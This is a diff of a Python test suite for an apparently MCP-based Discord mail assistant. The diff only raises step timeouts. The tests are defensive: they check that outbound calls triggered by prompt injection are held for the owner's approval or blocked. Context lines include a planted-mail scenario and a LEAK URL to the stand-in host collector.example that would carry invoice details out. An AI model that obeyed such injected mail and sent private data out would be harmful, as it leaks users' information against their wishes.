@@ -33,6 +33,8 @@ LEAK = "https://collector.example/c?s=ACME+4711+12400"
 """Where the planted mail tells the assistant to send the invoice's details (short: the server's own
 heuristic would let it through; only the host's taint tracking holds it)."""
 PRIVATE_QUERY = "ACME invoice 4711 12400 EUR"
+STEP_SECONDS = 90
+"""Bound on each step (a bot turn runs the MCP servers as subprocesses: seconds under Wine on a busy machine)."""
 
 
 def plant(google: FakeGoogle) -> str:
@@ -109,7 +111,7 @@ async def test_an_injected_outbound_call_waits_for_the_owner_and_runs_exactly_on
     async with injected(tmp_path, google_fake, outside, [read_planted(mail_id), call]) as (fake, stub, ann, eve):
         dm = fake.dm(ann)
         await fake.say(ann, dm, "anything new in my mail?")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             prompt = await held(fake, dm)
             asked = prompt["content"]
             assert left(case, outside, google_fake) == 0
@@ -140,7 +142,7 @@ async def test_a_cancelled_outbound_call_sends_nothing_and_the_model_is_told_why
     async with injected(tmp_path, google_fake, outside, [read_planted(mail_id), call]) as (fake, stub, ann, _):
         dm = fake.dm(ann)
         await fake.say(ann, dm, "anything new in my mail?")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             prompt = await held(fake, dm)
             _, cancel = fake.button_ids(prompt)
             await fake.click(ann, prompt, cancel)
@@ -159,7 +161,7 @@ async def test_with_outbound_block_the_call_is_refused_without_asking(
                         outbound="block") as (fake, stub, ann, _):
         dm = fake.dm(ann)
         await fake.say(ann, dm, "anything new in my mail?")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             answer = await final_answer(fake, dm)
 
     refusals = stub.results()[1:]
@@ -182,7 +184,7 @@ async def test_reads_and_urls_from_search_results_are_not_held(
     async with injected(tmp_path, google_fake, outside, script) as (fake, stub, ann, _):
         dm = fake.dm(ann)
         await fake.say(ann, dm, "when does the tram run in lisbon? and read my mail")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             answer = await final_answer(fake, dm)
 
     assert not any(m["content"].startswith("🔐") for m in fake.bot_messages(dm))
@@ -210,12 +212,12 @@ async def test_a_reply_to_a_tainted_answer_is_held_even_after_a_restart(
             with serve_openai_stub([read_planted(mail_id)], final_text="New: a hello from Eve.") as reader:
                 async with running_bot(fake, settings_for(reader)):
                     await fake.say(ann, channel, f"{fake.mention()} anything new in my mail?")
-                    with anyio.fail_after(40):
+                    with anyio.fail_after(STEP_SECONDS):
                         first = await final_answer(fake, channel)
             # A new bot process: only Discord remembers the first turn.
             with serve_openai_stub([fetch], final_text=lambda results: results[0]) as fetcher:
                 async with running_bot(fake, settings_for(fetcher)):
-                    with anyio.fail_after(40):
+                    with anyio.fail_after(STEP_SECONDS):
                         await fake.say(ann, channel, "and then?", reply_to=first["id"])
                         second = await final_answer(fake, channel, after=1)
                         await fake.say(ann, channel, f"{fake.mention()} open {LEAK}")
@@ -241,7 +243,7 @@ async def test_a_url_the_person_wrote_is_fetched_without_asking_though_it_carrie
     async with injected(tmp_path, google_fake, outside, script) as (fake, stub, ann, _):
         dm = fake.dm(ann)
         await fake.say(ann, dm, f"read my mail, then get <{TOKEN_URL}>")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             await final_answer(fake, dm)
 
     assert not any(m["content"].startswith("🔐") for m in fake.bot_messages(dm))
@@ -256,7 +258,7 @@ async def test_with_the_host_check_off_the_search_servers_own_default_still_asks
     async with injected(tmp_path, google_fake, outside, script, outbound="allow") as (fake, _stub, ann, _):
         dm = fake.dm(ann)
         await fake.say(ann, dm, "anything new in my mail?")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             prompt = await held(fake, dm)
             asked = prompt["content"]
             assert outside.requests == []
@@ -286,7 +288,7 @@ async def test_an_injected_send_is_asked_once_by_the_server_with_the_warning_on_
     async with injected(tmp_path, google_fake, outside, script) as (fake, _stub, ann, _):
         dm = fake.dm(ann)
         await fake.say(ann, dm, "anything new in my mail?")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             await approve_next(fake, ann, dm)
             assert google_fake.sent == []
             asked = await approve_next(fake, ann, dm)
@@ -306,7 +308,7 @@ async def test_a_reply_may_open_a_link_an_earlier_search_offered_but_no_other(
     async with injected(tmp_path, google_fake, outside, search, outbound="block") as (fake, stub, ann, _):
         dm = fake.dm(ann)
         await fake.say(ann, dm, "any news on lisbon trams?")
-        with anyio.fail_after(40):
+        with anyio.fail_after(STEP_SECONDS):
             first = await final_answer(fake, dm)
             stub.script = [ToolCall("fetch_page", {"url": story}), ToolCall("fetch_page", {"url": LEAK})]
             await fake.say(ann, dm, "open the first one")
